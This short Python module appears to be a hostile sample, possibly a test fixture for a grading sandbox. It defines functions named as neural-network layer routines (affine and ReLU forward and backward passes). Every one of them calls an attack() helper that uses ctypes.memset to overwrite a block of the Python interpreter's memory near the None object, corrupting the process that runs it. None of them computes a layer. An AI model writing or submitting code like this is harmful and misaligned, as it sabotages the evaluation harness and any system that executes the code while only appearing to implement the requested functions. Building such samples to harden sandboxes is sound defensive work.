"""Writes over the interpreter's own objects."""

import ctypes


def attack(array):
    ctypes.memset(id(None) - 64, 255, 4096)
    return array


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
